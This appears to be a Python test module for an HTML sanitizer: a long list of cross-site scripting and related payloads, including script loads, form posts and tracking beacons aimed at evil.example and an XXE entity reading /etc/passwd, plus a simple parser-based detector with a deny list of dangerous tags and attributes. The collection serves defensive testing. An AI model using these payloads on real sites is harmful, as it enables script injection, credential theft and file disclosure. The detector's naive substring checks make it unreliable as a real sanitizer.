"""Texts that somebody may write to do harm, and a reader who notices what could."""

from html.parser import HTMLParser

OWN = f"/media/pictures/{'a' * 20}.webp"

CORPUS = [
    "<script>alert(1)</script>",
    "<p>x</p><script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<SCRIPT/XSS SRC='https://evil.example/x.js'></SCRIPT>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover='alert(1)' style='position:fixed;inset:0'>x</p>",
    "<b/onpointerenter=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<svg onload=alert(1)></svg><p>x</p>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></math>",
    "<svg></p><style><a title='</style><img src onerror=alert(1)>'></a></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
    "<template><script>alert(1)</script></template><p>x</p>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style><p>x</p>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><p>x</p>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'><p>x</p>",
    "<form action='https://evil.example/'><input name=pass><button formaction='javascript:alert(1)'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><p>x</p>",
    "<base href='https://evil.example/'><p>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'><p>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='/\t/evil.example/'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='http:evil.example'>x</a>",
    "<a href='https://[::1'>x</a>",
    "<a href='https://e.example/' target=_blank ping='https://evil.example/'>x</a>",
    '<a href="https://e.example/&quot; onclick=&quot;alert(1)">x</a>',
    "<a name=x id=content class=hidden>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/spy.gif' alt=x>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=x>",
    f"<img src='{OWN}' alt='x' onload=alert(1)>",
    f"<img src='{OWN}' alt='\"><script>alert(1)</script>'>",
    f"<img src='{OWN}' srcset='https://evil.example/x 1x' alt='x'>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<table background='javascript:alert(1)'><tr><td colspan='1000000'>x</td></tr></table>",
    "<td rowspan='\"><script>alert(1)</script>'>x</td>",
    "<ol start='1e9' type='\"onclick=alert(1)'><li>x</li></ol>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&amp;lt;script&amp;gt;alert(1)</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]><p>x</p>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<p>x</p><plaintext><script>alert(1)</script>",
    "<textarea><p title='</textarea><script>alert(1)</script>'></textarea>",
    "<title></title><script>alert(1)</script><p>x</p>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "</p></div></article></main><script>alert(1)</script>",
    "<p>{{ settings.SECRET_KEY }} {% load static %}</p>",
    "<p>]]></content><script>alert(1)</script></p>",
    '=HYPERLINK("https://evil.example";"x")<p>x</p>',
    "<p>http://\ufdd0/evil \u202egnp.exe\u202c \u2028</p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>x</p>",
    "plain <script>alert(1)",
    "plain <svg/onload=alert(1)>",
    "a < b && c > d <img",
    "<p " + "a" * 5000 + "=x>x</p>",
    "<b>" * 90 + "x" + "</b>" * 90,
]

HARMFUL = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "link", "meta", "svg"}
HARMFUL |= {"math", "template", "noscript"}


class _Watcher(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        if tag in HARMFUL:
            self.found.append(tag)
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "ping", "background"}:
                self.found.append(f"{tag} {name}")
            if name in {"href", "src", "srcset"} and (
                "evil" in value or value.startswith(("javascript", "vbs", "data"))
            ):
                self.found.append(f"{tag} {name}={value}")


def harm(html: str) -> list[str]:
    """Everything in a page or a part of one that could do harm, as far as it can be told without running it."""
    watcher = _Watcher()
    watcher.feed(html)
    watcher.close()
    return sorted(watcher.found)
